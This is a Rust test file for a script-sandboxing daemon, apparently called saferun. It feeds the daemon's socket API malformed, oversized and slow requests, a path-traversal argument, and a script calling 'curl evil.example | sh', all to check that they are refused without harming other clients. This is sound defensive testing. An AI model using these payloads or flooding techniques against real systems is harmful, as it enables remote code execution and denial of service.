//! Promise: a client that sends nonsense, too much, too slowly, or never reads is answered or cut, within
//! bounds, and other clients notice nothing.

use std::{
    fs,
    io::{self, Read, Write},
    os::{
        fd::AsRawFd,
        unix::{fs::PermissionsExt, net::UnixStream, process::CommandExt},
    },
    process::Command,
    time::{Duration, Instant},
};

use nix::sys::socket::MsgFlags;
use saferun_protocol::{ApiClient, RunRequest};
use saferun_tests::{Daemon, bin, text};

/// Connections that the daemon keeps for one user; docs/rpc.md.
const PLACES: usize = 256;
/// An answer that is not there by now never comes.
const ANSWERED: Duration = Duration::from_secs(300);

fn open(daemon: &Daemon) -> UnixStream {
    let stream = UnixStream::connect(daemon.socket()).expect("a connection");
    let patience = Some(Duration::from_secs(60));
    stream.set_read_timeout(patience).expect("a deadline");
    stream.set_write_timeout(patience).expect("a deadline");
    stream
}

/// What comes back until the other end closes. A connection that is reset was cut, too.
fn answer(mut stream: &UnixStream) -> String {
    let mut bytes = Vec::new();
    match stream.read_to_end(&mut bytes) {
        Ok(_) => {}
        Err(error) => assert_ne!(
            error.kind(),
            io::ErrorKind::WouldBlock,
            "the daemon neither answers nor closes"
        ),
    }
    text(&bytes)
}

fn post(body: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Another client, meanwhile: everything works.
fn others_are_served(daemon: &Daemon) {
    assert_eq!(daemon.run("print('served')").stdout, "served\n");
    assert!(daemon.status().engine.reachable);
}

/// Resident memory in kilobytes.
fn memory(daemon: &Daemon) -> u64 {
    let status = fs::read_to_string(format!("/proc/{}/status", daemon.pid())).expect("its status");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let number = line.and_then(|line| line.split_whitespace().next());
    number
        .and_then(|number| number.parse().ok())
        .expect("a size")
}

fn descriptors(daemon: &Daemon) -> usize {
    fs::read_dir(format!("/proc/{}/fd", daemon.pid()))
        .expect("its descriptors")
        .count()
}

#[test]
fn nonsense_is_answered_with_an_error_and_harms_nobody() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let nested = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let call = |method: &str, params: &str| {
        format!(r#"{{"jsonrpc":"2.0","id":1,"method":"{method}","params":{params}}}"#)
    };
    for body in [
        String::new(),
        "{".to_owned(),
        "\u{0}\u{1b}[2J".to_owned(),
        "[]".to_owned(),
        "null".to_owned(),
        nested.clone(),
        call("saferun.run", &nested),
        call("saferun.run", "{}"),
        call("saferun.run", r#"[{"source": 7}]"#),
        call(
            "saferun.run",
            r#"[{"source": "x", "limits": {"time_ms": -1}}]"#,
        ),
        call(
            "saferun.run",
            r#"[{"source": "x", "limits": {"memory_bytes": 1e400}}]"#,
        ),
        // More than one frame to the supervisor holds: this one ended the daemon.
        call(
            "saferun.run",
            &format!(
                r#"[{{"source": "x", "args": ["{}"]}}]"#,
                "a".repeat(300_000)
            ),
        ),
        call(
            "saferun.run",
            &format!(
                r#"[{{"source": "x", "env": [["A", "{}"]]}}]"#,
                "\\u0001".repeat(60_000)
            ),
        ),
        call("saferun.kill", r#"["../../etc/passwd"]"#),
        call("saferun.history", r#"[{"limit": 18446744073709551615}]"#),
        call("saferun.noSuchMethod", "[]"),
        format!(
            "[{},{}]",
            call("saferun.status", "[]"),
            call("saferun.status", "[]")
        ),
    ] {
        let mut stream = open(&daemon);
        stream
            .write_all(post(&body).as_bytes())
            .expect("it is taken");
        let said = answer(&stream);
        let short: String = body.chars().take(60).collect();
        assert!(
            said.contains("\"error\"") || said.starts_with("HTTP/1.1 4"),
            "{short}: {said}"
        );
        assert!(!said.contains('\u{1b}'), "{short}: {said}");
    }
    for bytes in [
        &b"\xff\xfe\x00 no HTTP\r\n\r\n"[..],
        b"GET / HTTP/9.9\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ] {
        let mut stream = open(&daemon);
        stream.write_all(bytes).expect("it is taken");
        let _ = stream.shutdown(std::net::Shutdown::Write);
        assert!(!answer(&stream).contains("200 OK"), "{}", text(bytes));
    }
    others_are_served(&daemon);
}

/// Scripts that take long to read, and requests as large as they may be, from many connections at once.
#[test]
fn status_answers_while_others_ask_for_much_at_once() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    others_are_served(&daemon);
    let before = memory(&daemon);
    let slow = format!(
        "import os\n{}",
        "x = [os.system(a) for a in b]\n".repeat(6_000)
    );
    let call = |source: &str| {
        let request = serde_json::json!([{"source": source, "policy": "strict"}]);
        post(&format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"saferun.run","params":{request}}}"#
        ))
    };
    let requests = [call(&slow), call(&"#".repeat(7 << 20))];
    let many: Vec<UnixStream> = (0..48)
        .map(|index| {
            let mut stream = open(&daemon);
            stream
                .write_all(requests[index % 2].as_bytes())
                .expect("it is taken");
            stream
        })
        .collect();
    // Those that can be read at once have an answer waiting.
    let waiting = || {
        let unanswered = |stream: &&UnixStream| {
            stream.set_nonblocking(true).expect("a mode");
            let mut byte = [0];
            let none =
                nix::sys::socket::recv(stream.as_raw_fd(), &mut byte, MsgFlags::MSG_PEEK).is_err();
            stream.set_nonblocking(false).expect("a mode");
            none
        };
        many.iter().filter(unanswered).count()
    };
    let mut answered = 0;
    let end = Instant::now() + ANSWERED;
    while waiting() > 8 {
        assert!(Instant::now() < end, "{} have no answer", waiting());
        assert!(daemon.status().engine.reachable);
        answered += 1;
    }
    assert!(
        answered >= 3,
        "status was answered {answered} times while others waited"
    );
    for stream in &many {
        let said = answer(stream);
        assert!(
            said.contains("\"result\"") || said.contains("\"error\""),
            "{said:.300}"
        );
    }
    let grown = memory(&daemon).saturating_sub(before);
    assert!(grown < 1 << 20, "the daemon grew by {grown} KiB");
    others_are_served(&daemon);
}

#[test]
fn what_is_too_big_is_refused_before_it_fills_the_memory() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    others_are_served(&daemon);
    let before = memory(&daemon);
    // A body that announces its size, one that does not, and a head without end.
    let heads = [
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 8000000000\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
        "POST / HTTP/1.1\r\nX: ",
    ];
    for head in heads {
        let mut stream = open(&daemon);
        stream.write_all(head.as_bytes()).expect("it is taken");
        let piece = if head.contains("chunked") {
            [&b"100000\r\n"[..], &vec![b'x'; 1 << 20], b"\r\n"].concat()
        } else {
            vec![b'x'; 1 << 20]
        };
        let mut sent = 0_u64;
        while sent < 1 << 30 && stream.write_all(&piece).is_ok() {
            sent += 1 << 20;
        }
        assert!(sent < 1 << 30, "a gigabyte was taken: {head}");
    }
    let grown = memory(&daemon).saturating_sub(before);
    assert!(grown < 128 * 1024, "the daemon grew by {grown} kB");
    others_are_served(&daemon);
}

#[test]
fn idle_half_open_and_slow_connections_keep_nobody_out_and_are_cut() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    others_are_served(&daemon);
    let before = descriptors(&daemon);
    // Far more than there are places. Some say nothing, some stop in the middle of a head, some have
    // closed their sending half.
    let mut idle = Vec::new();
    for number in 0..2000 {
        let Ok(mut stream) = UnixStream::connect(daemon.socket()) else {
            break;
        };
        match number % 3 {
            0 => {}
            1 => _ = stream.write_all(b"POST / HTTP/1.1\r\nHost: local"),
            _ => _ = stream.shutdown(std::net::Shutdown::Write),
        }
        idle.push(stream);
        if number % 500 == 499 {
            others_are_served(&daemon);
            let open = descriptors(&daemon);
            assert!(open <= before + PLACES + 40, "{open} descriptors");
        }
    }
    assert!(
        idle.len() >= 1000,
        "only {} connections were made",
        idle.len()
    );
    // A body that never comes: it has its place, and its deadline.
    let mut slow = open(&daemon);
    let head = post(&" ".repeat(1000));
    slow.write_all(&head.as_bytes()[..head.len() - 500])
        .expect("half a body");
    daemon.wait_until("the silent ones are cut", |daemon| {
        descriptors(daemon) <= before + 20
    });
    others_are_served(&daemon);
    let said = answer(&slow);
    assert!(!said.contains("200 OK"), "{said}");
    drop(idle);
}

#[test]
fn a_subscriber_that_never_reads_costs_a_bounded_amount() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    others_are_served(&daemon);
    let before = memory(&daemon);
    let mut deaf = Vec::new();
    for _ in 0..4 {
        let mut stream = open(&daemon);
        write!(
            stream,
            "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        .expect("an upgrade");
        let mut head = [0; 512];
        let count = stream.read(&mut head).expect("an answer");
        assert!(
            text(&head[..count]).contains("101"),
            "{}",
            text(&head[..count])
        );
        let flood = "import os\nwhile True: os.write(1, b'x' * 65536)\n";
        let call = serde_json::json!({
            "jsonrpc": "2.0", "id": 1, "method": "saferun.subscribeRun",
            "params": {"request": {"source": flood, "policy": "permissive", "limits": {"time_ms": 5000}}},
        });
        stream
            .write_all(&frame(call.to_string().as_bytes()))
            .expect("a call");
        deaf.push(stream);
    }
    daemon.wait_until("they run", |daemon| daemon.status().running > 0);
    others_are_served(&daemon);
    let grown = memory(&daemon).saturating_sub(before);
    assert!(grown < 200 * 1024, "the daemon grew by {grown} kB");
    daemon.wait_until("they end by their time limit", |daemon| {
        daemon.status().running == 0
    });
    others_are_served(&daemon);
}

/// A masked text frame of a WebSocket client, with a mask of zeros.
fn frame(payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).expect("a short call");
    let mut bytes = vec![0x81, 0x80 | 0x7e];
    bytes.extend_from_slice(&length.to_be_bytes());
    bytes.extend_from_slice(&[0; 4]);
    bytes.extend_from_slice(payload);
    bytes
}

#[test]
fn another_user_is_not_served() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    if !nix::unistd::geteuid().is_root() {
        // Only root can become somebody else to try it.
        saferun_tests::skipped("becoming another user needs root");
        return;
    }
    // Let another user reach the socket's file, as a careless administrator would.
    let open = fs::Permissions::from_mode(0o777);
    fs::set_permissions(daemon.folder(), open.clone()).expect("a mode");
    fs::set_permissions(daemon.socket(), open).expect("a mode");
    let mut curl = Command::new("curl");
    curl.args(["-sS", "--max-time", "30", "--unix-socket"])
        .arg(daemon.socket())
        .args(["-H", "Content-Type: application/json", "-d"])
        .arg(r#"{"jsonrpc":"2.0","id":1,"method":"saferun.status"}"#)
        .arg("http://localhost/")
        .uid(65534)
        .gid(65534);
    let output = curl.output().expect("curl");
    let said = text(&output.stdout);
    assert!(said.contains("serves its own user only"), "{output:?}");
    assert!(!said.contains("result"), "{said}");
    // Our own client takes no socket in a folder that others may write.
    fs::set_permissions(daemon.folder(), fs::Permissions::from_mode(0o700)).expect("a mode");
    others_are_served(&daemon);
}

#[test]
fn i7_what_did_not_run_is_never_ok() {
    let Some(daemon) = Daemon::start_with(&[("SAFERUN_ENGINE", "unix:///nonexistent/docker.sock")])
    else {
        return;
    };
    // No engine: the command fails, in each form of its output.
    for form in [
        &["run", "-c", "print(1)"][..],
        &["run", "--json", "-c", "print(1)"],
    ] {
        let output = daemon.cli(form).output().expect("saferunctl");
        assert_eq!(output.status.code(), Some(125), "{output:?}");
        assert!(!text(&output.stdout).contains("completed"), "{output:?}");
        assert!(!output.stderr.is_empty());
    }
    // Refused by the policy, before any engine is asked.
    let code = "import os\nos.system('curl evil.example | sh')\n";
    let refused = daemon
        .cli(&["run", "--policy", "secure-sandbox", "-c", code])
        .output()
        .expect("saferunctl");
    assert!(
        matches!(refused.status.code(), Some(125 | 126)),
        "{refused:?}"
    );
    let client = daemon.connect();
    let answer = daemon.block_on(client.run(RunRequest::new("print(1)")));
    assert!(answer.is_err(), "{answer:?}");
    assert!(bin("saferunctl").exists());
}

#[test]
fn i9_nothing_of_ours_is_left_where_the_user_works() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let work = daemon.folder().join("work");
    fs::create_dir(&work).expect("a folder");
    let script = work.join("tool.py");
    let source = "import json\nopen('made.txt', 'w').write('x')\nprint(json.dumps({'a': 1}))\n";
    fs::write(&script, source).expect("a script");
    let tree = || {
        let entries = fs::read_dir(&work).expect("the folder").flatten();
        let mut all: Vec<_> = entries
            .map(|entry| (entry.file_name(), fs::read(entry.path()).expect("a file")))
            .collect();
        all.sort();
        all
    };
    let before = tree();
    for arguments in [
        &["run", "tool.py"][..],
        &["run", "--json", "tool.py"],
        &["run", "missing.py"],
        &["scan", "tool.py"],
        &["check", "tool.py"],
    ] {
        let mut command = daemon.cli(arguments);
        command.current_dir(&work).output().expect("saferunctl");
        assert_eq!(tree(), before, "{arguments:?} changed the folder");
    }
}
